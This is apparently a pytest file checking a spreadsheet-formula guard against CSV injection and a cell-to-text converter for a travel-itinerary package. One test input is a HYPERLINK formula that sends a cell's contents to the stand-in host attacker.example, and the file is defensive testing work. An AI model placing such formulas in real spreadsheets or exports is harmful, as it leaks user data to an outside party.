"""CSV cell text and the spreadsheet-formula guard (OWASP CSV injection), reversible."""

from __future__ import annotations

import math

import numpy as np
import pytest

from itinerary.cells import cell_text, guard_formula, unguard_formula

CASES = [
    ("=1+1", "'=1+1"),
    (
        '=HYPERLINK("http://attacker.example/?x="&A1,"click")',
        '\'=HYPERLINK("http://attacker.example/?x="&A1,"click")',
    ),
    ("+86 755 1234", "'+86 755 1234"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("＝1+1", "'＝1+1"),
    ("'=1", "''=1"),
    ("''=1", "'''=1"),
    ("'s-Hertogenbosch", "'s-Hertogenbosch"),
    ("-122.3414", "-122.3414"),
    ("+1e5", "+1e5"),
    ("国贸大厦", "国贸大厦"),
    ("Shenzhen = great", "Shenzhen = great"),
    ("", ""),
]


@pytest.mark.parametrize(("text", "guarded"), CASES)
def test_guard_and_unguard_are_inverse(text: str, guarded: str) -> None:
    assert guard_formula(text) == guarded
    assert unguard_formula(guarded) == text


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (None, ""),
        (True, "yes"),
        (False, "no"),
        (22.5, "22.5"),
        (np.float64(0.1), "0.1"),
        (math.inf, "inf"),
        (["a", "b"], "a;b"),
        (("x",), "x"),
        (7, "7"),
        ("text", "text"),
    ],
)
def test_cell_text(value: object, text: str) -> None:
    assert cell_text(value) == text
